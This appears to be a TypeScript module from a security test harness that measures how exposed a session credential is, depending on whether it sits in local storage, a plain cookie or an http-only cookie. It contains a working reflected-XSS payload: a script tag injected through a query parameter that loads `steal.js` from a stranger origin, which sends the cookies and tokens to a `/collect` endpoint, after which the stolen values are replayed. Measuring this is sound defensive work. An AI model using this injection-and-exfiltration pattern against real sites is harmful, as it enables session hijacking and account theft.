/** What a script that got into a page of the application can do with its visitor's credential, by where that is kept. */
import type { Browser } from 'playwright-core'
import { agentFor, exchange } from '../../../load/wire/exchange.ts'
import type { BrowserSeen } from '../../../record/types.ts'
import { ALL } from './defences.ts'
import { visiting } from './visit.ts'

type Theft = BrowserSeen['thefts'][number]

const PLACES = { bearer: ['local-storage'], cookie: ['plain-cookie', 'http-only-cookie'] } as const

/** @param server base URL of the server itself: a thief needs no browser */
export async function steal(
  browser: Browser,
  server: string,
  transport: keyof typeof PLACES,
): Promise<Theft[]> {
  const thefts: Theft[] = []
  for (const keptIn of PLACES[transport]) {
    const { cookie, storage, usedHere } = await inject(browser, server, keptIn)
    const headers = {
      ...(cookie === '' ? {} : { Cookie: cookie }),
      ...(storage.token === undefined ? {} : { Authorization: `Bearer ${storage.token}` }),
    }
    thefts.push({ keptIn, readable: await letsIn(server, headers), usable: usedHere === 200 })
  }
  return thefts
}

/** As pages/steal.js sends it. */
interface Loot {
  cookie: string
  storage: { token?: string }
  /** Status of a request that the script sent from where it was. */
  usedHere: number
}

function inject(browser: Browser, server: string, keptIn: Theft['keptIn']): Promise<Loot> {
  const defences = { ...ALL, httpOnly: keptIn !== 'plain-cookie' }
  return visiting(browser, server, defences, async (victim, { origins: { app, stranger }, loot }) => {
    const page = await victim.open()
    const name = `<script src="${stranger}/steal.js"></script>`
    const brought = page.waitForResponse(`${stranger}/collect`)
    await Promise.all([brought, page.goto(`${app}/hello?${new URLSearchParams({ name })}`)])
    return JSON.parse(loot()[0] ?? '') as Loot
  })
}

async function letsIn(server: string, headers: Record<string, string>): Promise<boolean> {
  const agent = agentFor(server)
  try {
    return (await exchange(agent, server, { method: 'GET', path: '/me', headers })).status === 200
  } finally {
    agent.destroy()
  }
}
